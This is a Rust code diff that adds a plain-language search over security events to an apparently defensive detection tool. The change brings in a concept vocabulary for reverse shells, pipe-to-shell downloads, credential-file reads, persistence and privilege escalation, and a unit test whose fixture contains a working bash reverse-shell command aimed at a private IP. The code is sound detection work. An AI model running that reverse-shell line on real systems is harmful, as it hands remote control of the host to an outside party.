@@ -98,6 +98,190 @@ pub fn embed(e: &Event) -> Embedding {
     h.finish()
 }
 
+/// Embeds a plain-words query ("reverse shell bash outbound connection")
+/// into the same space as events, for search. Each word is looked up in a
+/// small vocabulary of security concepts that names the tokens such
+/// behaviour produces (a "reverse shell" is an interactive shell whose
+/// standard streams go to `/dev/tcp/…`; "outbound connection" is a connect
+/// event or a `/dev/tcp` redirection); any other word matches a process,
+/// parent or argument of that name. Deterministic, like [`embed`].
+pub fn embed_text(query: &str) -> Embedding {
+    let mut h = Hasher::default();
+    let words: Vec<String> = query
+        .split(|c: char| !(c.is_alphanumeric() || "-_./:@".contains(c)))
+        .filter(|w| !w.is_empty())
+        .map(str::to_lowercase)
+        .collect();
+    for pair in words.windows(2) {
+        if let Some(tokens) = concept(&format!("{} {}", pair[0], pair[1])) {
+            for (ns, tok, w) in tokens {
+                h.add(ns, tok, *w);
+            }
+        }
+    }
+    for word in &words {
+        if STOP_WORDS.contains(&word.as_str()) {
+            continue;
+        }
+        if let Some(tokens) = concept(word) {
+            for (ns, tok, w) in tokens {
+                h.add(ns, tok, *w);
+            }
+        } else {
+            // A literal name: a process, a parent, an argument.
+            h.add_norm("comm", word, 1.0);
+            h.add_norm("parent", word, 0.5);
+            h.add_norm("arg", word, 1.0);
+        }
+    }
+    h.finish()
+}
+
+const STOP_WORDS: &[&str] = &[
+    "a",
+    "an",
+    "the",
+    "of",
+    "to",
+    "from",
+    "by",
+    "with",
+    "in",
+    "on",
+    "and",
+    "or",
+    "any",
+    "that",
+    "show",
+    "me",
+    "find",
+    "like",
+    "looks",
+    "something",
+    "anything",
+    "events",
+    "event",
+];
+
+type ConceptTokens = &'static [(&'static str, &'static str, f32)];
+
+/// Vocabulary of security concepts: the tokens [`embed`] produces for the
+/// behaviour a word names. Arguments are in their normalised form
+/// (`/dev/tcp/<ip>/#`).
+fn concept(word: &str) -> Option<ConceptTokens> {
+    const SHELL: ConceptTokens = &[
+        ("comm", "bash", 1.0),
+        ("comm", "sh", 0.6),
+        ("arg", "-i", 0.8),
+        ("arg", "bash", 0.6),
+        ("arg", "-c", 0.4),
+    ];
+    const REVERSE_SHELL: ConceptTokens = &[
+        ("arg", "/dev/tcp/<ip>/#", 1.5),
+        ("arg", ">&", 1.2),
+        ("arg", "-i", 1.0),
+        ("bigram", "-i\u{1f}>&", 0.8),
+        ("comm", "bash", 0.8),
+        ("comm", "nc", 0.5),
+        ("arg", "-e", 0.5),
+    ];
+    const CONNECTION: ConceptTokens = &[
+        ("kind", "connect", 1.0),
+        ("arg", "/dev/tcp/<ip>/#", 0.8),
+        ("ipclass", "public", 0.5),
+    ];
+    const DOWNLOAD: ConceptTokens = &[
+        ("comm", "curl", 1.0),
+        ("comm", "wget", 1.0),
+        ("arg", "-fssl", 0.5),
+        ("arg", "|", 0.5),
+        ("arg", "-o", 0.4),
+    ];
+    const PIPE_TO_SHELL: ConceptTokens = &[
+        ("arg", "|", 1.0),
+        ("arg", "bash", 0.8),
+        ("arg", "sh", 0.6),
+        ("comm", "curl", 0.6),
+        ("comm", "wget", 0.5),
+        ("bigram", "|\u{1f}bash", 1.0),
+        ("bigram", "|\u{1f}sh", 0.7),
+    ];
+    const CREDENTIALS: ConceptTokens = &[
+        ("path", "/etc/shadow", 1.0),
+        ("arg", "/etc/shadow", 1.0),
+        ("path", "/etc/passwd", 0.6),
+        ("arg", "/etc/passwd", 0.5),
+        ("dir", "/root/.ssh", 0.6),
+        ("kind", "open", 0.5),
+    ];
+    const PERSISTENCE: ConceptTokens = &[
+        ("comm", "crontab", 1.0),
+        ("dir", "/etc/cron.d", 0.8),
+        ("path", "/etc/crontab", 0.8),
+        ("dir", "/etc/systemd/system", 0.6),
+        ("comm", "systemctl", 0.4),
+        ("oflags", "create", 0.4),
+    ];
+    const PRIVESC: ConceptTokens = &[
+        ("comm", "sudo", 1.0),
+        ("user", "root", 0.8),
+        ("arg", "sudo", 0.8),
+        ("comm", "su", 0.5),
+        ("arg", "chmod", 0.4),
+        ("arg", "u+s", 0.6),
+    ];
+    const ENCODED: ConceptTokens = &[
+        ("comm", "base64", 1.0),
+        ("arg", "base64", 1.0),
+        ("arg", "-d", 0.6),
+        ("comm", "xxd", 0.5),
+    ];
+    const SCAN: ConceptTokens = &[
+        ("comm", "nmap", 1.0),
+        ("comm", "masscan", 0.8),
+        ("comm", "nc", 0.5),
+        ("arg", "-z", 0.5),
+    ];
+    const ROOT: ConceptTokens = &[("user", "root", 1.0)];
+    const FILE_READ: ConceptTokens = &[("kind", "open", 1.0), ("oflags", "read", 0.8)];
+    const FILE_WRITE: ConceptTokens = &[
+        ("kind", "open", 1.0),
+        ("oflags", "create", 0.8),
+        ("oflags", "write", 0.8),
+    ];
+    const EXEC: ConceptTokens = &[("kind", "exec", 1.0)];
+    Some(match word {
+        "reverse shell" | "reverse" | "backconnect" | "callback" => REVERSE_SHELL,
+        "shell" | "shells" | "interactive" => SHELL,
+        "outbound" | "connection" | "connections" | "connect" | "network" | "egress" | "c2"
+        | "beacon" => CONNECTION,
+        "download" | "downloads" | "fetch" | "dropper" => DOWNLOAD,
+        "pipe" | "piped" | "curl|bash" | "pipe to shell" => PIPE_TO_SHELL,
+        "credential" | "credentials" | "password" | "passwords" | "secrets" | "shadow" => {
+            CREDENTIALS
+        }
+        "persistence" | "cron" | "crontab" | "scheduled" => PERSISTENCE,
+        "privilege" | "escalation" | "privesc" | "setuid" | "suid" => PRIVESC,
+        "encoded" | "obfuscated" | "base64" => ENCODED,
+        "scan" | "scanning" | "recon" | "discovery" => SCAN,
+        "root" | "superuser" => ROOT,
+        "read" | "reads" | "opened" => FILE_READ,
+        "write" | "writes" | "modified" | "tamper" | "tampering" => FILE_WRITE,
+        "execution" | "executed" | "process" | "command" => EXEC,
+        _ => return None,
+    })
+}
+
+/// Identity of a behaviour: a hash of its embedding's bytes. Identical
+/// behaviour (after normalisation) has the same key.
+pub fn behaviour_key(v: &Embedding) -> u64 {
+    let mut bytes = [0u8; DIM * 4];
+    for (chunk, x) in bytes.chunks_exact_mut(4).zip(v) {
+        chunk.copy_from_slice(&x.to_le_bytes());
+    }
+    xxh3_64_with_seed(&bytes, u64::from(FEATURIZER_VERSION))
+}
+
 /// Dot product; equals cosine similarity for two embeddings.
 #[inline]
 pub fn dot(a: &Embedding, b: &Embedding) -> f32 {
@@ -482,6 +666,38 @@ mod tests {
             cosine_distance(&a, &b)
         );
         assert!(cosine_distance(&a, &b) < cosine_distance(&a, &c));
+    }
+
+    #[test]
+    fn words_find_the_behaviour_they_name() {
+        let revshell = embed(&exec(
+            "bash",
+            "php-fpm8.2",
+            33,
+            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
+        ));
+        let others = [
+            embed(&exec("nginx", "nginx", 33, &["nginx: worker process"])),
+            embed(&exec("bash", "sshd", 1000, &["-bash"])),
+            embed(&exec(
+                "curl",
+                "bash",
+                0,
+                &["curl", "-s", "https://example.org/health"],
+            )),
+            embed(&exec(
+                "tar",
+                "cron",
+                0,
+                &["tar", "czf", "/backup/x.tgz", "/etc"],
+            )),
+        ];
+        let q = embed_text("reverse shell bash outbound connection");
+        let hit = dot(&q, &revshell);
+        for o in &others {
+            assert!(hit > dot(&q, o) + 0.1, "{hit} vs {}", dot(&q, o));
+        }
+        assert_eq!(embed_text("Reverse SHELL"), embed_text("reverse shell"));
     }
 
     #[test]
